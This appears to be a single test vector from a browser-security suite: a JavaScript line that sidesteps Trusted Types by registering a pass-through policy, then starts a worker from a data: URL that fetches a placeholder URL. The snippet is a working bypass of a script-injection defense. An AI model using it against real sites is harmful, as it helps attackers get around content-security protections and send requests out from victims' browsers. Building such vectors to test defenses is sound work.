// vector: data worker past trusted types, by a policy of its own
// where: worker
setTimeout(Object, 60_000, new Worker(trustedTypes.createPolicy("way out", { createScriptURL: (url) => url }).createScriptURL("data:text/javascript,fetch('$URL')")));
